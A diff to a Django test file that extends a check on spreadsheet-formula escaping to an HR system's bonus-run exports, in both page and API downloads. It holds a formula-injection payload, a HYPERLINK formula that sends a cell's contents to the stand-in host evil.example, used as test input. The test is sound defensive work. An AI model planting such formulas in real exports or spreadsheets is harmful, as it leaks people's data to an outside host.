@@ -11,6 +11,7 @@ from __future__ import annotations
 import csv
 import io
 import zipfile
+from decimal import Decimal
 
 import pytest
 from django.urls import URLPattern, URLResolver, get_resolver, reverse
@@ -23,9 +24,11 @@ from plms.audit.services import audit_record
 from plms.common.spreadsheets import FORMULA_PREFIXES, spreadsheet_cell
 from plms.people.models import Department, Employee
 from plms.privacy import exports, services
+from reward import bonus
 from tests.assessments.conftest import actor_of, closed_cycle, world  # noqa: F401 (fixture)
 from tests.assessments.factories import ReviewAnswerFactory
 from tests.conftest import in_org
+from tests.reward.factories import PayGradeFactory, PayRecordFactory
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
 NAMES = {
@@ -80,6 +83,26 @@ def _urls(hostile):
         "api:personal-data-export-download": [
             f"/api/v1/personal-data-exports/{_personal_data_export(hostile).uuid}/download"
         ],
+        **_bonus_urls(hostile),
+    }
+
+
+def _bonus_urls(hostile) -> dict[str, list[str]]:
+    """A bonus run over the hostile person (name and department), one line adjusted with a
+    reason that reads like a formula; both the page's and the API's download."""
+    grade = PayGradeFactory(organization=hostile.org, target_bonus_percent=10)
+    PayRecordFactory(organization=hostile.org, employee=hostile.employee.employee, grade=grade)
+    with in_org(hostile.org):
+        run = bonus.bonus_run_open(actor=actor_of(hostile.hr), name="Formula bonus", year=2027)
+        line = run.lines.get(employee=hostile.employee.employee)
+        bonus.bonus_adjust(
+            actor=actor_of(hostile.hr), line=line, amount=Decimal(1), reason=HYPERLINK
+        )
+    page = reverse("reward:bonus_run_export", args=[run.uuid])
+    api = f"/api/v1/bonus-runs/{run.uuid}/export"
+    return {
+        "reward:bonus_run_export": [page, f"{page}?file_format=xlsx"],
+        "api:bonus-run-export": [api, f"{api}?file_format=xlsx"],
     }
 
 
@@ -202,6 +225,8 @@ def test_every_export_route_escapes_formulas(hostile_world, client):
                 "audit:event_export": (NAMES["capability"], NAMES["person"]),
                 "privacy:export_download": (NAMES["person"],),
                 "api:personal-data-export-download": (NAMES["person"],),
+                "reward:bonus_run_export": (NAMES["person"], NAMES["department"], HYPERLINK),
+                "api:bonus-run-export": (NAMES["person"], NAMES["department"], HYPERLINK),
             }[route]
             if "job_roles" in url:
                 expected = (NAMES["role"],)
